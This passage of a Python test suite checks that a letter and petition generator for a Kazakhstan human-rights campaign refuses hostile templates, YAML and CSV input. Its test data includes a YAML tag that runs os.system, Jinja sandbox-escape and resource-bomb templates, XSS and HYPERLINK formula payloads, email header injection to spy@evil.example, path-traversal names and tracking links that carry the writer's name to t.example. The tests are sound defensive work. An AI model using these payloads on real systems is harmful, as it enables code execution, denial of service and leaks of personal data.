    html = result.stdout
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="default-src '
                    r"'none'; img-src data:;[^\"]*\">", html)
    assert csp, html[:400]
    assert csp.start() < html.index("http://tracker.example")


def test_template_metadata_never_reaches_the_pdf(cli: Cli) -> None:
    """A tracking ID or the writer's name in <meta> or the exported title stays out of /Info."""
    head = ('<meta name="author" content="{{ writer.name }}">'
            '<meta name="keywords" content="tracking-id-42">'
            '<meta name="dcterms.created" content="2020-01-01T10:00:00+03:30">')
    layout(cli.root, page("<p>{{ writer.name }}</p>", head).replace("<title>t</title>",
                                                                    "<title>{{ title }}</title>"))
    result = cli.invoke(*LETTER_PDF)
    assert result.exit_code == 0, result.stderr
    pdf = (cli.root / "out" / "letter.pdf").read_bytes()
    info = dict(pypdf.PdfReader(BytesIO(pdf)).trailer["/Info"])
    assert info == {"/Producer": "advocate",
                    "/Title": "Justice for Kazakhstan's peaceful protesters",
                    "/CreationDate": "D:20260115000000Z", "/ModDate": "D:20260115000000Z"}
    assert b"tracking-id-42" not in pdf and b"2020" not in pdf


def test_wording_template_cannot_put_the_writer_into_pdf_metadata(cli: Cli) -> None:
    """The exported title names the PDF; a hostile pack must not make it the writer's name."""
    source = (builtin_templates() / "en" / "letter.md.j2").read_text(encoding="utf-8")
    wording(cli.root, "{% set title = writer.name ~ ' ' ~ writer.email %}" + source)
    result = cli.invoke(*LETTER_PDF)
    assert result.exit_code == 0, result.stderr
    pdf = (cli.root / "out" / "letter.pdf").read_bytes()
    reader = pypdf.PdfReader(BytesIO(pdf))
    metadata = str(dict(reader.trailer["/Info"])) + reader.trailer["/Root"]["/Metadata"] \
        .get_object().get_data().decode("utf-8", "replace")
    for value in MY_DATA[:2]:
        assert value not in metadata


# --------------------------------------------------------------------------- 11-16 variants


@pytest.mark.parametrize("source", [
    "{{ 'x'.center(1000000) }}",
    "{{ 'x'.ljust(1000000) ~ '.' }}",
    "{{ 'x'|center(1000000) }}",
    "{{ '%01000000d' % 1 }}",
    "{{ '{:>1000000}'.format(1) }}",
    "{{ 'x'|indent(1000000, true, true) }}",
    "{{ range(100000)|join('x' * 100) }}",
])
def test_item13_padding_and_formatting_are_capped_like_repetition(cli: Cli, source: str) -> None:
    """Each of these builds a million characters or more out of a 30-byte template."""
    wording(cli.root, source)
    cli.refused(*LETTER_TXT, expect=re.compile(
        rf"^advocate: error: {re.escape(WORDING)}(:1)?: .*too large"))


@pytest.mark.parametrize("source", [
    "{{ 'a'|attr('format')('{0.__class__}') }}",
    "{{ self._TemplateReference__context }}",
    "{{ lipsum.__doc__ }}",
    "{{ writer.items() }}",
])
def test_item11_attribute_walks_show_no_object_details(cli: Cli, source: str) -> None:
    wording(cli.root, source)
    result = cli.invoke(*LETTER_TXT)
    if result.exit_code == 0:
        text = (cli.root / "out" / "letter.txt").read_text(encoding="utf-8")
        assert "class" not in text and "function" not in text and "object at" not in text
    else:
        assert result.exit_code == 2 and "en/letter.md.j2" in result.stderr


@pytest.mark.parametrize("name", [
    "l\u0435tter.md.j2",  # Cyrillic е
    "ｌｅｔｔｅｒ.md.j2",  # full-width letters
    "en/..\u2215letter.md.j2",  # division slash
    "/etc/passwd.txt.j2",
    "en//letter.md.j2",
    "..\\\\letter.md.j2",
    "letter.md.j2\\u0000",
    ".hidden.txt.j2",
    "a b.txt.j2",
    "x" * 101 + ".txt.j2",
])
def test_item16_template_name_tricks(cli: Cli, name: str) -> None:
    wording(cli.root, '{% include "' + name + '" %}')
    # The place is asserted once, for catalogue item 14 (test_hostile_pack_is_refused).
    cli.refused(*LETTER_TXT, expect=re.compile(r"invalid template name|unknown template type"),
                place=False)


def test_include_of_the_signer_list_by_name_is_refused(cli: Cli) -> None:
    signers(cli.root, "valid.csv", "pack/templates/signers.csv")
    wording(cli.root, '{% include "signers.csv" %}')
    cli.refused(*LETTER_TXT, expect=re.compile(r"unknown template type: 'signers\.csv'"),
                private=MY_DATA + tuple(personal_data("valid.csv")))


@pytest.mark.parametrize("source", [
    "{{ writer[writer.name] }}",  # undefined field named by the data
    "{{ writer|attr(writer.email) }}",
    "{{ writer.name|filesizeformat }}",  # ValueError quoting the value
    "{{ ('{' ~ writer.name ~ '}').format() }}",  # KeyError quoting the value
    "{% include writer.name ~ '.txt.j2' %}",  # template name built from the data
])
def test_template_errors_never_quote_the_writer(cli: Cli, source: str) -> None:
    """A hostile template can fail on purpose; the message must still hold no personal data."""
    wording(cli.root, source)
    cli.refused(*LETTER_TXT, expect=re.compile(r"en/letter\.md\.j2"))


def test_pdf_refusal_never_quotes_the_writer(cli: Cli) -> None:
    """A URL built from the writer's name is refused without repeating it."""
    layout(cli.root, page('<img src="http://x.example/{{ writer.name }}.png" alt="">'))
    cli.refused(*LETTER_PDF, expect=re.compile(r"letter\.html\.j2: (refused |.*withheld)"))


# --------------------------------------------------------------------------- 17-23 variants


def test_item17_tag_never_runs(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    campaign.write_text(f'x: !!python/object/apply:os.system ["touch {cli.root}/pwned"]\n',
                        encoding="utf-8")
    cli.refused("validate", "pack/campaign.yaml",
                expect=re.compile(r"pack/campaign\.yaml:1:4: tag not allowed"))
    assert not (cli.root / "pwned").exists()


def test_item20_yaml11_surprises_stay_text(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8")
    text = text.replace('en: "Kassym-Jomart Tokayev"', "en: NO", 1)
    text = text.replace('en: "Dear President Tokayev,"', "en: 12:30", 1)
    text = text.replace('figure: "164"', "figure: 01234", 1)
    campaign.write_text(text, encoding="utf-8")
    result = cli.invoke(*LETTER, "-f", "md")
    assert result.exit_code == 0, result.stderr
    assert "\nNO\\\n" in result.stdout and "\n12:30\n" in result.stdout
    brief = cli.invoke("brief", "pack/campaign.yaml", "--lang", "en", "-f", "md")
    assert brief.exit_code == 0, brief.stderr
    assert "01234" in brief.stdout


def test_every_problem_of_a_campaign_in_one_pass(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8").replace("as_of: 2022-01-17", "as_of: 2022-02-30")
    campaign.write_text(text.replace("language: en\n", "language: en\ntittle: x\n", 1),
                        encoding="utf-8")
    errors = cli.refused("validate", "pack/campaign.yaml",
                         expect="advocate: error: pack/campaign.yaml:13:1: unknown key 'tittle' "
                         "(did you mean 'title'?)")
    assert "advocate: error: pack/campaign.yaml:19:8: as_of: invalid date '2022-02-30' (no such " \
        "day)" in errors


# --------------------------------------------------------------------------- 24-32 variants


def test_item24_bom_is_not_part_of_the_header(cli: Cli) -> None:
    signers(cli.root, "bom.csv")
    result = cli.invoke(*LETTER, "--signers", "signers.csv")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("Aigerim Sadykova\n")


def test_item28_huge_field(cli: Cli) -> None:
    rows = "".join(f"Signer {i},s{i}@example.org,ok\n" for i in range(1, 8))
    write(cli.root / "signers.csv", "name,email,note\n" + rows + "Big,b@example.org,"
          + "x" * 200_000 + "\n")
    cli.refused("petition", "pack/campaign.yaml", "--signers", "signers.csv",
                expect="advocate: error: signers.csv:9: field too large (a field may hold at most "
                "10,000 characters)", private=("Signer 1", "s1@example.org"))


def test_item29_formula_is_shown_literally(cli: Cli) -> None:
    signers(cli.root, "formula.csv")
    text = cli.invoke(*LETTER, "--signers", "signers.csv")
    assert text.exit_code == 0, text.stderr
    assert '=HYPERLINK("http://x/?"&B2,"click")\n' in text.stdout
    assert "\n+447700900123\n" in text.stdout
    html = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "html")
    assert "=HYPERLINK(&quot;http://x/?&quot;&amp;B2,&quot;click&quot;)" in html.stdout
    pdf = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "pdf", "-o", "out/l.pdf")
    assert pdf.exit_code == 0, pdf.stderr
    reader = pypdf.PdfReader(BytesIO((cli.root / "out" / "l.pdf").read_bytes()))
    assert '=HYPERLINK("http://x/?"&B2,"click")' in reader.pages[0].extract_text()


def test_item30_html_in_a_name_is_text(cli: Cli) -> None:
    signers(cli.root, "html.csv")
    html = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "html")
    assert html.exit_code == 0, html.stderr
    assert "&lt;img src=http://x/ onerror=alert(1)&gt;" in html.stdout
    assert "<img src=http://x/" not in html.stdout
    pdf = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "pdf", "-o", "out/l.pdf")
    assert pdf.exit_code == 0, pdf.stderr  # no fetch: sockets are disabled in this suite
    text = pypdf.PdfReader(BytesIO((cli.root / "out" / "l.pdf").read_bytes())).pages[0]
    assert "<img src=http://x/ onerror=alert(1)>" in text.extract_text()


def test_signer_note_cannot_forge_letter_blocks_or_markup(cli: Cli) -> None:
    note = "::: recipient\nEvil Corp\n:::\n<script>alert(1)</script>\n[x](javascript:alert(1))"
    write(cli.root / "signers.csv", f'name,note\nAna Lima,"{note}"\n')
    html = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "html")
    assert html.exit_code == 0, html.stderr
    assert html.stdout.count('<div class="recipient">') == 1
    assert "<script>" not in html.stdout and 'href="javascript' not in html.stdout
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html.stdout
    text = cli.invoke(*LETTER, "--signers", "signers.csv")
    assert "::: recipient Evil Corp ::: <script>alert(1)</script>" in text.stdout


@pytest.mark.parametrize(("cell", "what"), [
    ('"Ana\r\nBcc: spy@evil.example"', "'name' contains a line break or control character"),
    ('"Ana\u2028Bcc: spy@evil.example"', "'name' contains a line break or control character"),
    ('"Ana\x1b[31m"', "'name' contains a line break or control character"),
])
def test_header_injection_through_a_signer_name(cli: Cli, cell: str, what: str) -> None:
    write(cli.root / "signers.csv", f"name,email\n{cell},ana@example.org\n")
    cli.refused(*LETTER, "--signers", "signers.csv", "-f", "eml", "-o", "out/l.eml",
                expect=f"advocate: error: signers.csv:2: row 1: {what}",
                private=("Ana", "ana@example.org", "spy@evil"))


def test_header_injection_through_the_campaign_title_is_refused_with_its_place(cli: Cli) -> None:
    """A pack's title with CR/LF would end the Subject line: refused where it is written."""
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8").replace(
        "en: \"Justice for Kazakhstan's peaceful protesters\"",
        'en: "Justice\\r\\nBcc: spy@evil.example"', 1)
    campaign.write_text(text, encoding="utf-8")
    cli.refused(*LETTER, *ME, "-f", "eml", "-o", "out/l.eml",
                expect=re.compile(r"^advocate: error: pack/campaign\.yaml:5:\d+: .*line break"))
    cli.refused("validate", "pack/campaign.yaml",
                expect=re.compile(r"^advocate: error: pack/campaign\.yaml:5:\d+: .*line break"))


def test_rtl_override_in_a_name_never_reaches_a_file_name(cli: Cli) -> None:
    write(cli.root / "signers.csv", "name,email\nx\u202egpj.exe,rtl@example.org\n")
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "out",
                        "--formats", "txt,eml", "--jobs", "1")
    assert result.exit_code == 0, result.stderr
    names = [p.name for p in (cli.root / "out").rglob("*")]
    assert all(name.isascii() and name.isprintable() for name in names), names
    assert not any("gpj" in name for name in names)
    eml = (cli.root / "out/kazakhstan-2022/letters/00001-un-high-commissioner.eml").read_bytes()
    assert b"\r\n\r\n" in eml and b"\xe2\x80\xae" not in eml.split(b"\r\n\r\n")[0]


def test_unsupported_script_in_a_name_is_refused_without_quoting_it(cli: Cli) -> None:
    """The bundled fonts lack Khmer and Tibetan: say which row and script, never which
    characters (they are the name)."""
    write(cli.root / "signers.csv", "name,email,note\nសុខ,sok@example.org,\n"
          "Ana,ana@example.org,བོད་\n")
    for args in ((*LETTER, "--signers", "signers.csv", "-f", "pdf", "-o", "out/l.pdf"),
                 ("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "out",
                  "--jobs", "1")):
        errors = cli.refused(*args, expect=re.compile(r"^advocate: error: signers\.csv(:\d+)?: "
                                                      r"row 1: "),
                             private=("ស", "ុ", "ខ", "བ", "ོ", "U+179F", "U+1781"))
        assert not any("campaign.yaml" in line for line in errors)
        assert any("row 1: the name holds Khmer letters" in line for line in errors)
        assert any("row 2: the note holds Tibetan letters" in line for line in errors)


# --------------------------------------------------------------------------- 33-37: output


def test_item33_hostile_names_never_name_a_file(cli: Cli) -> None:
    signers(cli.root, "hostile-names.csv")
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "out",
                        "--formats", "txt", "--jobs", "1")
    assert result.exit_code == 0, result.stderr
    files = sorted(str(p.relative_to(cli.root)) for p in cli.root.rglob("*")
                   if p.is_file() and "out/kazakhstan-2022" in str(p))
    letters = [f for f in files if "/letters/" in f]
    assert len(letters) == 9 * 4
    targets = "(president|prosecutor-general|interior-minister|un-high-commissioner)"
    assert all(re.fullmatch(rf"out/kazakhstan-2022/letters/0000[1-9]-{targets}\.txt", f)
               for f in letters), letters
    assert {p.name for p in cli.root.iterdir()} == {"pack", "out", "signers.csv"}
    assert all(oct(p.stat().st_mode & 0o777) == "0o600" for p in cli.root.joinpath("out").rglob(
        "*") if p.is_file() and p.name != "keep.txt")
    for value in personal_data("hostile-names.csv"):
        assert value not in result.stderr
    manifest = (cli.root / "out/kazakhstan-2022/manifest.json").read_text(encoding="utf-8")
    assert "bashrc" not in manifest and "José" not in manifest


def test_item34_existing_output_without_force(cli: Cli) -> None:
    args = ("build", "pack/campaign.yaml", "-o", "out", "--formats", "txt", "--jobs", "1")
    assert cli.invoke(*args).exit_code == 0
    errors = cli.refused(*args, expect="advocate: error: out: 21 files from an earlier build "
                         "already exist (use --force to overwrite them)")
    assert len(errors) == 1  # one line, the count: documents (en, ru, kk), letters, index, manifest
    write(cli.root / "out" / "00001.pdf", "%PDF earlier\n")
    cli.refused(*LETTER, "-f", "pdf", "-o", "out/00001.pdf",
                expect="advocate: error: out/00001.pdf: already exists (use --force to "
                "overwrite)")


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_item35_failure_at_signer_5_of_10_writes_nothing(cli: Cli, jobs: str) -> None:
    """The wording template fails for one signer in the middle of a batch (and its workers)."""
    write(cli.root / "signers.csv", "name,email\n" + "".join(
        f"Signer {i},s{i}@example.org\n" for i in range(1, 11)))
    source = (builtin_templates() / "en" / "letter.md.j2").read_text(encoding="utf-8")
    wording(cli.root, "{% if writer.name == 'Signer 5' %}{{ writer.boom }}{% endif %}\n" + source)
    formats = "txt,pdf" if jobs == "2" else "txt"
    cli.refused("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "out",
                "--jobs", jobs, "--formats", formats, "--lang", "en", expect=re.compile(
                    # It fails for this signer only, so the message is withheld (issue 13).
                    rf"^advocate: error: {re.escape(WORDING)}: row 5: the template failed on "
                    r"this signer's details \(the message is withheld"),
                private=("Signer 5", "s5@example.org"))


def test_item35_a_new_output_folder_is_not_left_behind(cli: Cli) -> None:
    wording(cli.root, "{{ writer.boom }}")
    signers(cli.root, "valid.csv")
    cli.refused("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "fresh/out",
                "--formats", "txt", "--jobs", "1", "--lang", "en",
                expect=re.compile(r"undefined field 'boom'"),
                private=tuple(personal_data("valid.csv")))
    assert not (cli.root / "fresh").exists()


@pytest.mark.parametrize("out", ["pack/templates/x.txt", "pack/templates/en/letter.md.j2",
                                 "templates-link/x.txt", "signers.csv"])
def test_item36_letter_output_into_the_pack_or_onto_an_input(cli: Cli, out: str) -> None:
    signers(cli.root, "valid.csv")
    wording(cli.root, (builtin_templates() / "en" / "letter.md.j2").read_text(encoding="utf-8"))
    (cli.root / "templates-link").symlink_to(cli.root / "pack" / "templates")
    cli.refused(*LETTER, "--signers", "signers.csv", "-o", out, "--force",
                expect=re.compile(r"refusing to (write into the campaign folder|overwrite an "
                                  r"input file)"),
                private=tuple(personal_data("valid.csv")))


@pytest.mark.parametrize("out", ["pack/templates", "pack/templates/sub", "templates-link"])
def test_item36_build_output_into_the_pack_is_refused(cli: Cli, out: str) -> None:
    """A build into the pack would mix signers' letters into files others share."""
    (cli.root / "templates-link").symlink_to(cli.root / "pack" / "templates")
    cli.refused("build", "pack/campaign.yaml", "-o", out, "--formats", "txt", "--jobs", "1",
                expect=re.compile(r"refusing to write into the campaign folder"))


def test_item36_build_output_onto_the_signer_list(cli: Cli) -> None:
    signers(cli.root, "valid.csv")
    cli.refused("build", "pack/campaign.yaml", "-o", "signers.csv", "--signers", "signers.csv",
                expect=re.compile(r"^advocate: error: signers\.csv: "),
                private=tuple(personal_data("valid.csv")))


def test_item36_build_into_a_symlink_leading_out_of_the_output_folder(cli: Cli) -> None:
    (cli.root / "elsewhere").mkdir()
    (cli.root / "out" / "kazakhstan-2022").symlink_to(cli.root / "elsewhere")
    cli.refused("build", "pack/campaign.yaml", "-o", "out", "--formats", "txt", "--jobs", "1",
                expect="advocate: error: out/kazakhstan-2022/brief.html: refusing to write "
                "outside the output folder (a folder on the way is a symlink that leads "
                "elsewhere)")
    assert list((cli.root / "elsewhere").iterdir()) == []


def test_letter_output_into_the_installed_templates_is_refused(
        cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    """Writing into the built-in templates would change every later render (recorded, not
    written: the test never touches the installed package)."""
    import advocate.output.files

    written: list[Path] = []
    monkeypatch.setattr(advocate.output.files, "write_file",
                        lambda path, data, **kw: written.append(Path(path)))
    target = builtin_templates() / "zz-catalogue-probe.txt"
    result = cli.invoke(*LETTER, "-o", str(target))
    assert written == []
    assert result.exit_code == 2
    assert "refusing to write into the campaign folder" in result.stderr


def test_item37_a_crash_names_only_its_type(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    import advocate.render.eml

    def crash(**kwargs: Any) -> bytes:
        raise RuntimeError(f"boom for {kwargs['from_name']} <{kwargs['from_addr']}>")

    monkeypatch.setattr(advocate.render.eml, "build_eml", crash)
    signers(cli.root, "valid.csv")
    before = listing(cli.root)
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "out",
                        "--formats", "txt,eml", "--jobs", "1")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == ("advocate: internal error: RuntimeError (this is a bug; please "
                             "report it; --debug shows the traceback)\n")
    assert listing(cli.root) == before
    for value in personal_data("valid.csv"):
        assert value not in result.stderr


def test_refusals_with_json_print_the_errors_as_json_and_nothing_else(cli: Cli) -> None:
    wording(cli.root, "{{ writer.boom }}")
    cli.refused("build", "pack/campaign.yaml", "-o", "out", "--json", "--formats", "txt",
                "--lang", "en", expect=re.compile(r"undefined field 'boom'"))


def test_no_socket_is_opened_in_this_process() -> None:
    """The suite runs with pytest-socket: an accidental fetch in any test here would fail."""
    with pytest.raises(Exception, match="socket"):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM)


# --------------------------------------------------------------------------- issue 13
#
# A red team's findings beyond the catalogue, each class with its variants.


def _csp_first(html: str) -> bool:
    """Whether a browser parsing ``html`` meets the policy first in the real <head>."""
    import tinyhtml5

    ns = "{http://www.w3.org/1999/xhtml}"
    root = tinyhtml5.parse(html)
    elements = [e for e in root if isinstance(e.tag, str)]
    if not elements or elements[0].tag != ns + "head":
        return False
    head = [e for e in elements[0] if isinstance(e.tag, str)]
    while head and head[0].tag == ns + "meta" and set(head[0].attrib) == {"charset"}:
        head.pop(0)
    return bool(head) and head[0].tag == ns + "meta" and \
        head[0].get("http-equiv", "").lower() == "content-security-policy" and \
        "default-src 'none'" in head[0].get("content", "")


_HEAD_TRICKS = [
    '<!DOCTYPE html><!--<head>--><html lang="en"><head><title>t</title>',
    '<!DOCTYPE html><html lang="en"><img src="http://t.example/a.gif" alt=""><head>'
    "<title>t</title>",
    '<!DOCTYPE html><html lang="en"><head data-x="<head>"><title>t</title>',
    '<!DOCTYPE html><template><head></template><html lang="en"><head><title>t</title>',
    '<!DOCTYPE html><html lang="en"><script type="text/x"><head></script><head>'
    "<title>t</title>",
    '<html lang="en"><head><title>t</title>',
]


@pytest.mark.parametrize("start", _HEAD_TRICKS)
def test_issue13_csp_is_in_the_real_head_whatever_the_layout(cli: Cli, start: str) -> None:
    """A string search for '<head' put the policy inside a comment, an attribute or a
    template; a browser then loaded the pack's images freely."""
    layout(cli.root, start + '</head><body><img src="http://t.example/p.gif" alt="">'
           "{{ bodies|join }}</body></html>")
    result = cli.invoke(*LETTER, *ME, "-f", "html")
    if result.exit_code == 2:  # refusing the layout outright is fine too
        assert result.stdout == ""
        return
    assert result.exit_code == 0, result.stderr
    assert _csp_first(result.stdout), result.stdout[:300]


def _index_pack(root: Path, body: str) -> None:
    layout(root, page(body), "index.html.j2")


def test_issue13_a_packs_index_gets_the_policy_and_no_letter_text(cli: Cli) -> None:
    """A pack's own index.html.j2 had no policy, and every letter's text in its context."""
    rows = signers(cli.root, "valid.csv")
    _index_pack(cli.root, "{% for l in letters %}<p>{{ l }}</p>{% endfor %}")
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", rows, "-o", "site",
                        "--formats", "txt", "--no-documents")
    assert result.exit_code == 0, result.stderr
    html = (cli.root / "site" / "kazakhstan-2022" / "index.html").read_text(encoding="utf-8")
    assert _csp_first(html)
    assert "letters/00001-president.txt" in html  # the links are there
    assert "mailto:" not in html
    for value in personal_data("valid.csv"):
        for form in (value, quote(value), quote(value, safe="")):
            assert form not in html


@pytest.mark.parametrize(("markup", "expect"), [
    ('<meta http-equiv="refresh" content="0;url=https://t.example/?{{ writer.name|urlencode }}">',
     "refresh"),
    ('<META HTTP-EQUIV="Refresh" CONTENT="1; URL=https://t.example/">', "refresh"),
    ('<link rel="dns-prefetch" href="//t.example">', "<link>"),
    ('<link rel="preconnect" href="https://t.example">', "<link>"),
    ('<link rel="stylesheet" href="HTTP://t.example/s.css">', "<link>"),
    ('<a href="https://t.example/?n={{ writer.name|urlencode }}">x</a>', "does not name"),
    ('<a href="https://www.ohchr.org/x" ping="https://t.example/p">x</a>', "does not name"),
    ('<form action="https://t.example/"><button>send</button></form>', "does not name"),
    ('<a href="mailto:t@t.example?body={{ writer.email|urlencode }}">x</a>', "does not name"),
    ('<a href="//t.example/{{ writer.city|urlencode }}">x</a>', "does not name"),
])
def test_issue13_pack_html_cannot_send_the_reader_elsewhere(cli: Cli, markup: str,
                                                          expect: str) -> None:
    """The policy stops loads, not a refresh, a DNS prefetch or a click: a pack's page
    may link only to addresses its campaign file names."""
    layout(cli.root, page(markup + "{{ bodies|join }}"))
    cli.refused(*LETTER, *ME, "-f", "html", expect=re.compile(re.escape(expect)))


def test_issue13_pack_pdf_links_only_to_the_campaigns_addresses(cli: Cli) -> None:
    """A transparent full-page link in a pack layout sent the writer's data in one click."""
    link = ('<a style="position:absolute;top:0;left:0;width:100%;height:100%" '
            'href="https://t.example/?n={{ writer.name|urlencode }}"></a>')
    layout(cli.root, page(link + "{{ bodies|join }}"))
    cli.refused(*LETTER_PDF, expect=re.compile(r"letter\.html\.j2: .*does not name"))


def test_issue13_pack_may_still_link_to_the_campaigns_own_addresses(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^as_of:", "url: https://example.org/kz\nas_of:", text, count=1)
    campaign.write_text(text, encoding="utf-8")
    layout(cli.root, page('<a href="https://example.org/kz">campaign</a>{{ bodies|join }}'))
    result = cli.invoke(*LETTER, *ME, "-f", "html")
    assert result.exit_code == 0, result.stderr
    assert 'href="https://example.org/kz"' in result.stdout
    result = cli.invoke(*LETTER_PDF)
    assert result.exit_code == 0, result.stderr


def test_issue13_nesting_is_measured_on_the_parsed_tree(cli: Cli) -> None:
    """'<span><div></span>' counts as two tags but nests twice as deep in a browser's tree."""
    layout(cli.root, page("<span><div></span>" * 60 + "{{ bodies|join }}"))
    cli.refused(*LETTER_PDF, expect=re.compile(r"nested too deeply"))


def test_issue13_a_linked_templates_folder_is_refused(cli: Cli, tmp_path: Path) -> None:
    """templates/ -> elsewhere made any folder the pack's templates (and -> / gave exit 1)."""
    shutil.rmtree(cli.root / "pack" / "templates")
    (cli.root / "pack" / "templates").symlink_to("/")
    cli.refused(*LETTER_TXT, expect=re.compile(r"templates: refused: the templates folder "
                                               r"is a link"))
    (cli.root / "pack" / "templates").unlink()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (cli.root / "pack" / "templates").symlink_to(elsewhere)
    cli.refused(*LETTER_TXT, expect=re.compile(r"the templates folder is a link"))


# Item 2: limits that C code cannot escape.

_BIG = "{% set s = 'x' * 100000 %}"


@pytest.mark.parametrize("source", [
    _BIG + "{{ ([s] * 30000)|join }}",  # 3 GB from one join
    _BIG + "{{ [s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s,"
    " s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s,"
    " s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s, s]|join }}",
    _BIG + "{{ s.join([s] * 100) }}",
    "{{ '%0999999999d'|format(1) }}",  # a gigabyte per call
    "{{ '%*d'|format(999999999, 1) }}",
    "{{ '%.999999999f'|format(1.5) }}",
    "{{ ('x' * 90000)|wordwrap(1, true, 'y' * 90000) }}",
    "{{ ('x\n' * 50000)|indent(100000) }}",
    "{{ [1]|batch(999999999, 'x') }}",
    "{{ [1]|slice(999999999, 'x') }}",
    "{{ {'a': [[[1]]]}|tojson(999999999) }}",
    "{% set m = range(100000)|list %}{% set n = range(100000)|list %}"
    "{{ ([m, n] * 50000)|sort }}",  # the red team's: caught by its size
    "{{ (range(100000)|list * 3)|unique|list|length }}",
])
def test_issue13_results_are_capped_by_size(cli: Cli, source: str) -> None:
    wording(cli.root, source)
    cli.refused(*LETTER_TXT, expect=re.compile(
        rf"^advocate: error: {re.escape(WORDING)}(:\d+)?: .*(too large|too many|too wide)"))


# Equal nested lists hidden below the size estimate: each comparison walks 100,000 items in
# C, where no signal handler runs. Only the kernel's CPU limit ends it.
_SORT_BOMB = ("{% set m = range(100000)|list %}{% set n = range(100000)|list %}"
              "{{ ([[[[m]]], [[[n]]]] * 50000)|sort|length }}")


def test_issue13_a_sort_in_c_is_stopped_by_the_os(cli: Cli, short_limits: None) -> None:
    wording(cli.root, _SORT_BOMB)
    cli.refused(*LETTER_TXT, expect=re.compile(
        # The kernel's CPU limit, or on a busy machine the parent's wall clock, first; or,
        # on a very busy one, the in-process timer while the lists are still being built
        # in Python (seen under load: the render was stopped all the same).
        rf"^advocate: error: {re.escape(WORDING)}: (render (used more than \d+ s of CPU "
        r"time|was stopped after \d+ s)|template render exceeded \d+ s)"))


def test_issue13_a_sort_in_c_is_stopped_in_batch_workers_too(cli: Cli,
                                                             short_limits: None) -> None:
    rows = signers(cli.root, "valid.csv")
    wording(cli.root, _SORT_BOMB)
    cli.refused("build", "pack/campaign.yaml", "--signers", rows, "-o", "out/b", "--jobs", "2",
                "--formats", "pdf", "--no-documents",
                # The worker killed by the kernel, or its confined render stopped first.
                expect=re.compile(r"stopped by its CPU time or memory limit|render "
                                  r"(used more than \d+ s of CPU time|was stopped after \d+ s|"
                                  r"exceeded \d+ s)"),
                private=MY_DATA + tuple(personal_data("valid.csv")))


def test_issue13_memory_is_bounded_by_the_os(cli: Cli) -> None:
    """'~' cannot be intercepted: doubling a string 31 times wants 2 GB; the address-space
    limit of the confined process refuses it."""
    wording(cli.root, "{% set ns = namespace(s='x' * 50000) %}{% for i in range(31) %}"
            "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}")
    cli.refused(*LETTER_TXT, expect=re.compile(r"too expensive: MemoryError|memory"))


# Item 3: no personal data in messages, whatever a template does to it.

def _derived(values: tuple[str, ...]) -> tuple[str, ...]:
    """Forms a template can give a value: reversed, spaced, joined, re-encoded."""
    forms: list[str] = []
    for value in values:
        forms += [value, value[::-1], value.replace(" ", "\u00a0"), ".".join(value),
                  value.replace("@", " at "), value.replace("@", "\uff20"), value.upper(),
                  "#".join(value.split("@")), quote(value).replace("%", "=")]
    return tuple(forms)


@pytest.mark.parametrize("source", [
    "{{ writer[writer.name|reverse] }}",
    "{{ writer[writer.email|replace('@', ' at ')] }}",
    "{{ writer[writer.email.split('@')|join('#')] }}",
    "{{ writer[writer.name|list|join('.')] }}",
    "{{ writer[writer.name|replace(' ', '\u00a0')] }}",
    "{{ writer[writer.name|urlencode|replace('%', '=')] }}",
    "{{ writer[writer.city|reverse] }}",
    "{% include writer.name|reverse ~ '.txt.j2' %}",
    "{{ (writer.name|reverse)|int(base=2) + writer }}",
])
def test_issue13_template_errors_never_echo_what_a_template_made_of_the_writer(
        cli: Cli, source: str) -> None:
    wording(cli.root, source)
    cli.refused(*LETTER_TXT, expect=re.compile(r"en/letter\.md\.j2"), private=_derived(MY_DATA))


def test_issue13_errors_independent_of_the_writer_are_still_shown(cli: Cli) -> None:
    """The same error for made-up people: nothing of the writer in it, so it is shown."""
    wording(cli.root, "{{ writer.ctiy }}")
    cli.refused(*LETTER_TXT, expect=re.compile(r"undefined field 'ctiy' \(did you mean 'city'"))


@pytest.mark.parametrize("markup", [
    '<img src="http://x.example/{{ writer.name|reverse }}.png" alt="">',
    '<img src="{{ writer.email|replace("@", "/") }}.png" alt="">',
    "<p style=\"font-size: {{ writer.name|length }}e7px\">x</p>",
])
def test_issue13_pdf_errors_never_echo_what_a_layout_made_of_the_writer(
        cli: Cli, markup: str) -> None:
    layout(cli.root, page(markup + "{{ bodies|join }}"))
    cli.refused(*LETTER_PDF, expect=re.compile(r"letter\.html\.j2"), private=_derived(MY_DATA))


@pytest.mark.parametrize("title", [
